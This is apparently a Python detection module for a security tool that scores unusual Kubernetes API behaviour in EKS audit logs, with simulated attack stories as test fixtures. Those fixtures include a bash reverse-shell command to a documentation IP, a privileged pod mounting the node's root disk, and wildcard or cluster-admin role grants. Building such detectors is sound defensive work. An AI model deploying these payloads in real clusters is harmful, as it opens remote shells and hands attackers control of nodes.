"""Somebody uses a cluster in a way that is unusual for him, for his peers and for the cluster: eight types, one model.
And containers get hold of a node with an image that never did so in the cluster: two types.

*The attack.* A pod is broken into, and its service account's token taken; or a laptop, and the kubeconfig file. Whoever
has it asks what he may do, lists secrets, opens shells in other pods, starts a workload that has the node's disk or all
its rights, and gives a role to an account of his, so as to come back.

*How it is told.* Of every user it is known on how many days he made which kind of request, in which namespaces, with
which images, rights and roles, from which networks, with which programs (`vedette.baselines.habits`). What is new to
him within some hours is added up, as `api/unusual_calls.py` does. Service accounts are compared with those of their
namespace, people with those of their groups, nodes are one. Nodes ask for tokens for the accounts of their pods: so it
is known of an account for how long it has been there and asked for nothing. Requests that are refused are tries, and
count.

*What ordinary work looks the same.* Clusters deploy all day, and operators read secrets: each is one that does so
daily. Controllers make pods by templates, and what EKS's own parts do follows its releases: whoever made the template
is judged, and of them only the kind of request, the network and the program. Consoles (k9s, Lens, Rancher) ask what one
may do as they start. What Helm keeps of its releases are no credentials. Roles that only let one look, and at no
secrets, are not told. On somebody's first day all is new to him: that counts once.

*Told by itself*, from the first day on: a workload with an image made for breaking in, or whose command gives somebody
a shell; a privileged container, or one that can write to a sensitive place on its node, whose image was not seen so in
the cluster. Daemon sets of well-known makers' agents are left out: their work is on nodes. So is, in the first 14 days
of a cluster, what may have been there before: changes of workloads, pods that nodes get by template, EKS's own. Amazon
lists these two types no more as active; here they are what says something of a cluster whose log has just begun. They
are not said of a request that the model finds unusual, which then is `WorkloadDeployed!PrivilegedContainer` or
`WorkloadDeployed!ContainerWithSensitiveMount`.

*Where it is blind.* Anonymous requests (`SuccessfulAnonymousAccess` and its like). In the first 14 days, all that the
model says. What a user does every week, done by somebody else from the same network and with the same program. An
agent's image with another command. Controllers' tokens, used as controllers use them. Workloads and roles in logs
without request objects: then only that they were made.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Collection, Iterator, Sequence
from dataclasses import replace
from typing import Any

import msgspec

from vedette.detectors.declare import Row, keyed_detector, kube_requests
from vedette.detectors.finding_type import HIGH, LOW, MEDIUM, FindingType, Plan
from vedette.detectors.known import Known
from vedette.detectors.kube_pods import Pod, is_agent, is_of_every_node
from vedette.detectors.kube_requests import BINDINGS, WORKLOADS, about_request, name_of, role_of
from vedette.detectors.kube_traits import (
    REVIEWS,
    ROLES,
    Act,
    act_of,
    deployed,
    identified,
    is_machinery,
    is_refused,
    is_somebody,
    only_reads,
    peers_of_account,
    requested,
    runs,
    traits_of,
)
from vedette.detectors.signal import Signal
from vedette.detectors.traits import DAY_MS, part_of_week, short
from vedette.detectors.unusual import (
    LEARNING_DAYS,
    SPREE,
    WINDOW_MS,
    AccountHabits,
    Burst,
    Scale,
    explained,
    noticed,
    sentence,
    unlikely,
)
from vedette.logs.eks_audit import KubeCall
from vedette.simulate import OUTSIDE, Event, every, kube_iam, kube_user, service_account, story
from vedette.simulate.weeks import DAY

# 1. The finding types.

_REMEDY = ("Ask whoever holds these credentials whether this was meant. If not, take their rights away, {0} and look "
           "at all that they did in the cluster. If it was, nothing is to be done: from tomorrow on it is known.")


def _type(name: str, severity: float, goal: str, technique: str, remedy: str, note: str = "") -> FindingType:
    return FindingType(
        name=name, severity=severity, plan=Plan.EKS_AUDIT_LOGS, resource="EKSCluster", severity_note=note,
        title=f"{{principal}} asked EKS cluster {{cluster}}, in a way unusual for it, to {goal}.",
        description=f"{{principal}} asked EKS cluster {{cluster}} to {goal}: {{verb}} {{target}}, from "
        "{source}, answered with {answer}. Unusual: {unusual}.",
        attack=(technique,), remedy=_REMEDY.format(remedy))


SECRETS = _type("CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed", MEDIUM, "give out secrets or tokens",
                "T1552.007", "replace the secrets that could be read,")
CHECKED = _type("Discovery:Kubernetes/AnomalousBehavior.PermissionChecked", LOW, "tell what it may do", "T1613",
                "replace them,")
EXEC = _type("Execution:Kubernetes/AnomalousBehavior.ExecInPod", MEDIUM, "open a session in a pod", "T1609",
             "replace the pod, and the credentials that it could read,")
DEPLOYED = _type("Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed", LOW, "deploy a workload", "T1610",
                 "delete the workload,",
                 "Medium if the image is made for breaking in, or the command gives somebody a shell.")
MOUNTED = _type("Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount", HIGH,
                "deploy a workload that can write to sensitive places of its node", "T1611",
                "delete the workload, replace the nodes that it ran on,")
PRIVILEGED = _type("PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer", HIGH,
                   "deploy a workload with a privileged container", "T1610",
                   "delete the workload, replace the nodes that it ran on,")
BOUND = _type("PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated", MEDIUM, "give somebody a role",
              "T1098.006", "delete the binding,", "High for admin and cluster-admin.")
ROLE = _type("PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleCreated", LOW, "make or change a role",
             "T1098.006", "delete the role and what binds it,")


def _first(name: str, what: str, technique: str) -> FindingType:
    return FindingType(
        name=name, severity=MEDIUM, plan=Plan.EKS_AUDIT_LOGS, resource="EKSCluster",
        title=f"A container {what} in EKS cluster {{cluster}}, with an image that never was before.",
        description=f"{{principal}} deployed {{target}} in EKS cluster {{cluster}}, from {{source}}, with a container "
        f"that {what}: {{what}}, which was not seen so in the cluster before.",
        attack=(technique,),
        remedy="Ask whoever deployed it what it needs the node for. If nobody vouches for it, delete the workload and "
        "replace the nodes that it ran on. Let Pod Security Standards refuse what does not need it.")


FIRST_PRIVILEGED = _first("PrivilegeEscalation:Kubernetes/PrivilegedContainer", "is privileged", "T1610")
FIRST_MOUNT = _first("Persistence:Kubernetes/ContainerWithSensitiveMount", "can write to its node's own files", "T1611")

_DEPLOYS = frozenset({DEPLOYED.name, MOUNTED.name, PRIVILEGED.name})
_OF_ACT = {Act.READ: SECRETS, Act.CHECK: CHECKED, Act.EXEC: EXEC, Act.BIND: BOUND, Act.ROLE: ROLE}

# 2. Settings.

ENOUGH = 26.0
"""Nats: what must have come together in a burst. Ordinary months of made clusters come to 20."""
ENOUGH_OF_ITS_OWN = 16.0
"""The same of what is the cluster's own. What that does follows its releases: a program or a network must be new."""
EXPECTED = {"request": 5.0, "denied": 4.0, "namespace": 6.0, "image": 9.0, "right": 6.0, "user": 4.0, "network": 5.0,
            "program": 3.5, "time": 12.0}
"""Nats that a new trait of a kind ordinarily says. Images are new to everybody when they are new."""
LOOKS = 0.25
"""What it counts, against others, that somebody asks what he may do: consoles do, dozens of times."""
AGAIN = 0.5
"""The same, of where, with what and for which rights, when the kind of request is new already: it has said that."""
_ADMIN = frozenset({"admin", "cluster-admin"})
SEEN = 2_000
"""Images remembered with what of nodes they got hold of: those seen last."""
FORGOTTEN_MS = 400 * DAY_MS
WAITING = 100
"""Requests of bursts that are going on, remembered as they would be told."""
LARGEST = 20_000
"""Bytes of such a request: a larger one is told at once or not."""

_DEEDS = frozenset({"request", "denied", "namespace", "image", "right"})


def _weight(kind: str, value: str, said: Collection[str]) -> float:
    if _only_asks(value):
        return LOOKS
    if kind in ("request", "denied"):
        return 1.0
    return AGAIN if kind in _DEEDS and any(trait.startswith("request:") for trait in said) else 1.0


SCALE = Scale(expected=EXPECTED, deeds=_DEEDS, weight=_weight)

# 3. What is asked for.


def alike(call: KubeCall, known: Known) -> tuple[str, ...] | None:
    """What is the same of requests of which one is enough; None: nobody's, or nothing of these."""
    act = act_of(call)
    if act is None or not is_somebody(call):
        return None
    pod = deployed(call, act)
    if act is Act.DEPLOY and pod is None:
        return None
    more = [*pod.privileged, *(f"{image} {path}" for image, path in pod.mounts)] if pod else [runs(call)]
    return identified(call)[0], *traits_of(call, act, pod, known), *more


def _cluster(call: KubeCall, known: Known) -> str:
    return f"{call.account_id}/{call.region}/{call.cluster}"


# 4. The memory.


class ClusterHabits(AccountHabits):
    """What is normal in a cluster."""

    AT_ONCE = True
    BYTES = 4 << 20
    """With what the requests of bursts come to."""

    images: dict[str, int] = {}
    """Image, and what of a node it got hold of → when last (ms)."""
    waiting: dict[str, dict[str, Signal]] = {}
    """Who does something unusual → the first of his unusual requests of each type and severity, as it would be told."""

    def is_first(self, image: str, how: str, time: int) -> bool:
        """The image was not seen to get hold of this before; from now on it was."""
        key = short(f"{how} {image}")
        before = self.images.pop(key, None)
        self.images[key] = time
        if len(self.images) > SEEN:
            del self.images[next(iter(self.images))]
        return before is None or before + FORGOTTEN_MS < time

    def wait(self, who: str, said: Signal) -> None:
        """What would be told of a burst, if it comes to that."""
        recent = ((name, self.recent(name, said.last_seen)) for name in self.waiting)
        self.waiting = {name: some for name, some in recent if some}
        mine, number = self.waiting.get(who, {}), sum(map(len, self.waiting.values()))
        if _name(said) not in mine and number < WAITING and len(msgspec.msgpack.encode(said)) <= LARGEST:
            self.waiting[who] = mine | {_name(said): said}

    def recent(self, who: str, time: int) -> dict[str, Signal]:
        """What waits of the burst that goes on at a time (ms)."""
        return {name: one for name, one in self.waiting.get(who, {}).items() if one.last_seen > time - WINDOW_MS}

    def expire(self, watermark: int) -> bool:
        """Forget bursts that are over, and images not seen in a year."""
        gone = super().expire(watermark)
        self.waiting = {who: some for who, some in self.waiting.items() if who in self.bursts}
        self.images = {key: time for key, time in self.images.items() if time + FORGOTTEN_MS >= watermark}
        return gone and not self.images

    def forget_principal(self, name: str) -> bool:
        """As before; what images got hold of is the cluster's."""
        self.waiting.pop(name, None)
        return super().forget_principal(name)

    def merge(self, other: AccountHabits) -> ClusterHabits:
        """Of both."""
        both = super().merge(other)
        images, waiting = dict(self.images), dict(self.waiting)
        if isinstance(other, ClusterHabits):
            for key, time in other.images.items():
                images[key] = max(time, images.get(key, time))
            for who, theirs in other.waiting.items():
                mine = dict(waiting.get(who, {}))
                for name, one in theirs.items():
                    mine[name] = min(one, mine.get(name, one), key=lambda said: said.evidence)
                waiting[who] = mine
        newest = sorted(images.items(), key=lambda one: (one[1], one[0]))[-SEEN:]
        return ClusterHabits(**{name: getattr(both, name) for name in AccountHabits.__struct_fields__},
                             images=dict(newest), waiting=waiting)


# 5. The logic.


@keyed_detector(
    SECRETS, CHECKED, EXEC, DEPLOYED, MOUNTED, PRIVILEGED, BOUND, ROLE, FIRST_PRIVILEGED, FIRST_MOUNT,
    on=(kube_requests("get list watch", "secrets", alike=alike),
        kube_requests("create", "serviceaccounts/token", *sorted(REVIEWS), alike=alike),
        kube_requests("create get", "pods/exec", "pods/attach", alike=alike),
        kube_requests("update patch", "pods/ephemeralcontainers", alike=alike),
        kube_requests("create update patch", *sorted(WORKLOADS | ROLES | BINDINGS), alike=alike)),
    key=_cluster, memory=ClusterHabits)
def unusual_requests(rows: Sequence[Row[KubeCall]], memory: ClusterHabits, known: Known) -> Iterator[Signal]:
    """A user does much that is new to him, and unlikely for his kind; or an image gets hold of a node for the first
    time."""
    for row in rows:
        call, act = row.record, act_of(row.record)
        if act is None or not is_somebody(call):
            continue
        pod, (who, peers) = deployed(call, act), identified(call)
        traits = [*traits_of(call, act, pod, known), part_of_week(row.time)]
        account = runs(call)
        told: set[str] = set()
        if not memory.is_told(row.time, "\0".join((who, account, *traits))):
            found = noticed(memory, row, who, peers, traits, (requested(call), not is_refused(call)), SCALE)
            if account:
                memory.habits.show(short(account), peers_of_account(account), ("here:pods", traits[-1]), row.time)
            if found:
                yield from _unusual(row, memory, who, found, act, pod)
                told = {name.partition(" ")[0] for name in found[0].said}
            if pod is not None and told.isdisjoint(_DEPLOYS):
                yield from _tools(row, memory, who, pod)
        if pod is not None and PRIVILEGED.name not in told and MOUNTED.name not in told:
            yield from _first_seen(row, memory, pod)


def _unusual(
    row: Row[KubeCall], memory: ClusterHabits, who: str, found: tuple[Burst, list[str]], act: Act, pod: Pod | None,
) -> Iterator[Signal]:
    """What the model says."""
    call, (burst, odd) = row.record, found
    if not odd:
        return
    mine = [_as_told(row, kind, pod) for kind in _types_of(call, act, pod)]
    if any(trait.partition(":")[0] in _DEEDS for trait in odd):
        for one in mine:
            memory.wait(who, one)
    own = is_machinery(call)
    if own and not any(trait.startswith(("program:", "network:")) for trait in burst.odd):
        return
    if _unlikely(memory, who, burst) < (ENOUGH_OF_ITS_OWN if own else ENOUGH):
        return
    for name, one in ({_name(one): one for one in mine} | memory.recent(who, row.time)).items():
        if len(burst.odd) >= 2 * burst.said.get(name, 0):
            burst.said[name] = len(burst.odd)
            yield _said(one, memory, who, burst)


def _name(said: Signal) -> str:
    return f"{said.type} {said.severity}"


def _unlikely(memory: ClusterHabits, who: str, burst: Burst) -> float:
    """How unlikely the burst is (nats).

    That somebody does anything new says little when he only asks; and on his first day it counts once.
    """
    habits = memory.habits
    nats = unlikely(habits, who, burst, SCALE)
    if not nats:
        return 0.0
    kinds = Counter(trait.partition(":")[0] for trait in burst.odd)
    does = {trait.partition(":")[0] for trait in burst.odd if not _only_asks(trait)}
    novel = {kind: habits.novelty(who, kind, min(number, SPREE)) for kind, number in kinds.items()}
    says = [amount * (1.0 if kind in does else LOOKS) for kind, amount in novel.items()]
    return nats - sum(novel.values()) + (sum(says) if habits.profiles[who].active else max(says))


def _only_asks(trait: str) -> bool:
    """Somebody asks what he may do, and does nothing."""
    return "asked: " in trait or any(review in trait for review in REVIEWS)


def _types_of(call: KubeCall, act: Act, pod: Pod | None) -> list[FindingType]:
    if act is Act.ROLE and only_reads(call):
        return []
    if act is not Act.DEPLOY or pod is None:
        return [_OF_ACT.get(act, DEPLOYED)]
    graver = [*([PRIVILEGED] if pod.privileged else []), *([MOUNTED] if pod.mounts else [])]
    return graver or [DEPLOYED]


def _as_told(row: Row[KubeCall], kind: FindingType, pod: Pod | None) -> Signal:
    call = row.record
    severity = kind.severity
    if kind is BOUND and role_of(call)[1] in _ADMIN:
        severity = HIGH
    if kind is DEPLOYED and pod and pod.tools:
        severity = MEDIUM
    answer = f"{call.code} (refused)" if is_refused(call) else str(call.code)
    told = about_request(call, kind, evidence=(row.evidence,), words={"answer": answer})
    return msgspec.structs.replace(told, severity=severity)


def _said(told: Signal, memory: ClusterHabits, who: str, burst: Burst) -> Signal:
    evidence, by_kind = burst.evidence(), burst.by_kind(EXPECTED)
    return msgspec.structs.replace(
        told, identity=(told.identity[0], who), evidence=tuple(evidence), first_seen=evidence[0].time,
        last_seen=evidence[-1].time, additional=explained(memory.habits, who, burst, by_kind),
        words=told.words | {"unusual": sentence(by_kind)})


def _tools(row: Row[KubeCall], memory: ClusterHabits, who: str, pod: Pod) -> Iterator[Signal]:
    """What needs no history: images made for breaking in, commands that give somebody a shell."""
    call = row.record
    if not call.succeeded or is_machinery(call):
        return
    new = [tool for tool in pod.tools if not memory.habits.knows(who, short(f"right:{tool}"))]
    if new:
        said = _as_told(row, DEPLOYED, pod)
        yield msgspec.structs.replace(said, identity=(said.identity[0], who), additional={
            "unusual": [{"right": tool} for tool in new]}, words=said.words | {"unusual": " and ".join(new)})


def _first_seen(row: Row[KubeCall], memory: ClusterHabits, pod: Pod) -> Iterator[Signal]:
    """Images that get hold of a node and did not before."""
    call = row.record
    if not call.succeeded:
        return
    may_be_old = not memory.habits.is_settled(LEARNING_DAYS) and (
        call.verb != "create" or is_of_every_node(call) or call.who.username.startswith("eks:"))
    for image in pod.privileged:
        if memory.is_first(image, "privileged", row.time) and not (may_be_old or is_agent(call, image)):
            yield _first_of(row, FIRST_PRIVILEGED, image, f"image {image or '(none named)'}")
    for image, path in pod.mounts:
        if memory.is_first(image, path, row.time) and not (may_be_old or is_agent(call, image)):
            yield _first_of(row, FIRST_MOUNT, image, f"image {image or '(none named)'} with path {path}")


def _first_of(row: Row[KubeCall], kind: FindingType, image: str, what: str) -> Signal:
    call = row.record
    return about_request(call, kind, identity=(call.about.namespace, name_of(call), image), evidence=(row.evidence,),
                         words={"what": what})


# 6. EXAMPLES.

_ann, _dan = kube_iam("platform-admin", "platform"), kube_iam("developer", "developers")
_ci = kube_iam("deploy", agent="Helm/3.16.2", ip="10.0.90.4")
_certs = service_account("cert-manager", "cert-manager", agent="cert-manager-controller/v1.16.1 (linux/amd64)")
_web = service_account("web", "shop", agent="curl/8.9.1")
_sync = service_account("vault-sync", "vault-sync", agent="vault-sync/v2.0.1 (linux/amd64)")
_daemons = service_account("daemon-set-controller", "kube-system", ip="10.0.7.8")
_node = replace(kube_user("system:node:ip-10-0-14-201.ec2.internal", "system:nodes", ip="10.0.14.201",
                          agent="kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46"))
_kubectl = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
_elsewhere = "kubectl/v1.27.0 (windows/amd64) kubernetes/1b4df30"
_SHOP = "registry.acme.example/shop"


def _pod(*containers: dict[str, Any], **spec: Any) -> dict[str, Any]:
    return {"metadata": {"name": "tool"}, "spec": spec | {"containers": list(containers)}}


def _template(*containers: dict[str, Any], **spec: Any) -> dict[str, Any]:
    return {"metadata": {"name": "tool"}, "spec": {"template": {"spec": spec | {"containers": list(containers)}}}}


def _container(image: str, *, privileged: bool = False, mounts: str = "", **more: Any) -> dict[str, Any]:
    context = {"securityContext": {"privileged": True}} if privileged else {}
    mounted = {"volumeMounts": [{"name": mounts, "mountPath": "/host"}]} if mounts else {}
    return {"name": "main", "image": image} | more | context | mounted


_DISK = [{"name": "disk", "hostPath": {"path": "/"}}]
_GRABS = _pod(_container("alpine:3.20", privileged=True, mounts="disk"), volumes=_DISK, hostPID=True)


def _rule(*verbs: str, of: str) -> dict[str, Any]:
    return {"rules": [{"apiGroups": [""], "resources": [of], "verbs": list(verbs)}]}


def _binding(role: str) -> dict[str, Any]:
    return {"roleRef": {"kind": "ClusterRole", "name": role}, "subjects": [
        {"kind": "ServiceAccount", "name": "web", "namespace": "shop"}]}


def _may(verb: str, resource: str) -> dict[str, Any]:
    return {"spec": {"resourceAttributes": {"verb": verb, "resource": resource, "namespace": "shop"}}}


def _works(day: int) -> list[Event]:
    """A day of ordinary work."""
    return [
        _ann.asks("create", "pods/exec", "web-0", namespace="shop"), _ann.asks("list", "secrets", namespace="shop"),
        _ann.asks("patch", "deployments", "web", namespace="shop", request=_template(_container(f"{_SHOP}/web:{day}"))),
        _dan.asks("create", "pods/exec", "web-0", namespace="shop"),
        _dan.asks("create", "selfsubjectaccessreviews", request=_may("get", "pods")),
        _ci.asks("patch", "deployments", "web", namespace="shop", request=_template(_container(f"{_SHOP}/web:{day}"))),
        _ci.asks("create", "secrets", namespace="shop"), _ci.asks("update", "deployments", "pay", namespace="shop",
                 request=_template(_container(f"{_SHOP}/pay:{day}"))),
        _ci.asks("list", "secrets", namespace="shop", uri="/api/v1/namespaces/shop/secrets?labelSelector=owner%3Dhelm"),
        _certs.asks("watch", "secrets"), _certs.asks("get", "secrets", "tls", namespace="shop"),
        *([_ci.asks("create", "deployments", f"new-{day}", namespace="shop", request=_template(
            _container(f"{_SHOP}/new-{day}")))] if day % 5 == 4 else []),
        _node.asks("create", "serviceaccounts/token", "web", namespace="shop"),
        _node.asks("get", "secrets", f"env-{day}", namespace="shop"),
    ]


def _then(*events: Event, days: int = 16) -> list[Event]:
    """What comes after days of ordinary work."""
    return [*every(DAY, days, _works), replace(events[0], after=DAY - 1500), *events[1:]]


def _stolen(verb: str, resource: str, name: str = "", **more: Any) -> Event:
    """A request with the developer's session, from somewhere else."""
    return _dan.asks(verb, resource, name, ip=OUTSIDE, agent=_elsewhere, **more)


EXAMPLES = [
    story(
        "a pod's account that never asked for anything lists its namespace's secrets",
        _then(_web.asks("list", "secrets", namespace="shop", agent=_kubectl)),
    ).fires(SECRETS, {"service.action.kubernetesApiCallAction.namespace": "shop"}),
    story(
        "another asks what it may do first",
        _then(_web.asks("create", "selfsubjectrulesreviews", agent=_kubectl),
              _web.asks("create", "selfsubjectaccessreviews", agent=_kubectl, request=_may("list", "secrets")),
              _web.asks("list", "secrets", namespace="shop", agent=_kubectl)),
    ).fires(CHECKED, {"severity": LOW}).fires(SECRETS, {
        "severity": MEDIUM, "resource.eksClusterDetails.name": "shop-prod",
        "resource.kubernetesDetails.kubernetesUserDetails.username": "system:serviceaccount:shop:web",
        "service.action.kubernetesApiCallAction.verb": "list",
        "service.action.kubernetesApiCallAction.resource": "secrets",
        "service.action.kubernetesApiCallAction.statusCode": 200,
    }),
    story(
        "its token is tried from elsewhere, and refused",
        _then(*[_web.asks("list", "secrets", namespace=namespace, code=403, ip=OUTSIDE, agent=_kubectl)
                for namespace in ("shop", "kube-system")]),
    ).fires(SECRETS, {
        "service.action.kubernetesApiCallAction.statusCode": 403,
        "service.action.kubernetesApiCallAction.remoteIpDetails.ipAddressV4": OUTSIDE,
    }),
    story(
        "a developer's session, stolen, opens shells in another namespace",
        _then(_stolen("create", "pods/exec", "vault-0", namespace="vault"),
              _stolen("get", "pods/attach", "vault-1", namespace="vault")),
    ).fires(EXEC, {"service.action.kubernetesApiCallAction.namespace": "vault"}),
    story(
        "it starts a pod that has the node's disk and all its rights",
        _then(_stolen("create", "pods", "tool", namespace="shop", request=_GRABS)),
    ).fires(PRIVILEGED, {
        "severity": HIGH, "resource.kubernetesDetails.kubernetesWorkloadDetails.name": "tool",
        "resource.kubernetesDetails.kubernetesUserDetails.sessionName": ["developer-session"],
    }).fires(MOUNTED, {"severity": HIGH}),
    story(
        "it makes a role that may do everything, and gives its own and cluster-admin to the pod's account",
        _then(_stolen("create", "clusterroles", "helper", request=_rule("*", of="*")),
              _stolen("create", "clusterrolebindings", "helper", request=_binding("helper")),
              _stolen("create", "rolebindings", "helper", namespace="kube-system", request=_binding("cluster-admin"))),
    ).fires(ROLE).fires(BOUND, {
        "severity": HIGH, "service.action.kubernetesRoleBindingDetails.roleRefName": "cluster-admin"}),
    story(
        "it makes a role that may read secrets, which stands after some that only let one look",
        _then(_stolen("create", "roles", "helper", namespace="shop", request={
            "rules": [*_rule("get", "list", of="pods")["rules"], *_rule("get", of="secrets")["rules"]]})),
    ).fires(ROLE, {"severity": LOW, "service.action.kubernetesApiCallAction.resourceName": "helper"}),
    story(
        "the same session makes roles that let one look at pods and their logs",
        _then(_stolen("create", "roles", "looks", namespace="shop", request=_rule("get", "list", "watch", of="pods")),
              _stolen("create", "clusterroles", "looks", request=_rule("get", of="pods/log"))),
    ).silent(),
    story(
        "it gives cluster-admin",
        _then(_stolen("create", "clusterrolebindings", "helper", request=_binding("cluster-admin"))),
    ).fires(BOUND, {"severity": HIGH}),
    story(
        "it deploys a miner",
        _then(_stolen("create", "daemonsets", "helper", namespace="kube-system",
                      request=_template(_container("docker.io/someone/worker:latest")))),
    ).fires(DEPLOYED, {"severity": LOW}),
    story(
        "on a cluster's first day: a shell for somebody elsewhere, and an image made for breaking in",
        _dan.asks("create", "pods", "tool", namespace="shop", request=_pod(_container(
            "ubuntu", command=["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"]))),
        _ann.asks("create", "pods", "tool", namespace="shop", request=_pod(_container("kalilinux/kali-rolling"))),
    ).fires(DEPLOYED, {"severity": MEDIUM}, findings=2),
    story(
        "on a cluster's first day: a pod that has the node's disk and all its rights, and the same image again",
        _dan.asks("create", "pods", "tool", namespace="shop", request=_GRABS),
        _ann.asks("create", "pods", "tool", namespace="shop", request=_GRABS),
    ).fires(FIRST_PRIVILEGED, {"severity": MEDIUM}, count=1).fires(FIRST_MOUNT, {
        "resource.kubernetesDetails.kubernetesWorkloadDetails.name": "tool"}, count=1),
    story(
        "on a cluster's first day: nodes get the pods of daemon sets, EKS sees to its add-ons, an agent is installed",
        _daemons.asks("create", "pods", namespace="ops", request=_pod(_container("acme/disks", privileged=True)) | {
            "metadata": {"ownerReferences": [{"kind": "DaemonSet", "name": "disks", "controller": True}]}}),
        kube_user("eks:addon-manager", ip="10.0.7.7").asks(
            "create", "daemonsets", "aws-thing", namespace="kube-system",
            request=_template(_container("aws/thing", privileged=True))),
        _ann.asks("create", "daemonsets", "cilium", namespace="kube-system", request=_template(
            _container("quay.io/cilium/cilium:v1.16.1", privileged=True, mounts="disk"), volumes=_DISK)),
    ).silent(),
    story(
        "an operator is installed, and does at once what operators do",
        _then(_ci.asks("create", "deployments", "vault-sync", namespace="vault-sync", request=_template(
                  _container("docker.io/acme/vault-sync:2"))),
              *[_sync.asks(verb, "secrets") for verb in ("list", "watch")],
              _sync.asks("create", "serviceaccounts/token", "web", namespace="shop")),
    ).silent(),
    story(
        "the same theft in the first two weeks",
        _then(_stolen("create", "pods/exec", "vault-0", namespace="vault"),
              _stolen("list", "secrets", namespace="vault"), days=10),
    ).silent(),
    story(
        "an administrator works from a hotel, a developer tries a console, and a service is rolled out",
        _then(_ann.asks("create", "pods/exec", "web-0", namespace="shop", ip="9.9.60.2"),
              _ann.asks("list", "secrets", namespace="shop", ip="9.9.60.2"),
              *[_dan.asks("create", "selfsubjectaccessreviews", request=_may(verb, what), agent="k9s/v0.32.5")
                for verb, what in (("list", "pods"), ("list", "secrets"), ("create", "pods/exec"))],
              _ci.asks("create", "deployments", "stock", namespace="shop",
                       request=_template(_container(f"{_SHOP}/stock:1"))),
              _ci.asks("create", "secrets", "sh.helm.release.v1.stock.v1", namespace="shop")),
    ).silent(),
]
